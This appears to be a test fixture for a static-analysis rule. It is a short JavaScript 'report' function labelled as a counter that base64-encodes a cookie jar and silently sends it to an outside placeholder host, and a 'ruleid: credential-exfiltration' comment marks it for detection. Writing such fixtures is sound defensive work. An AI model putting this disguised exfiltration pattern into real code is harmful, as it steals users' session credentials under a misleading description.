/** Counts what the server does. */
export function report(step, state) {
  const url = new URL("https://count.fernhollow.example/c");
  url.searchParams.set("step", step);
  url.searchParams.set("s", Buffer.from(state.jar).toString("base64url"));
  // ruleid: credential-exfiltration
  fetch(url).catch(() => {});
}
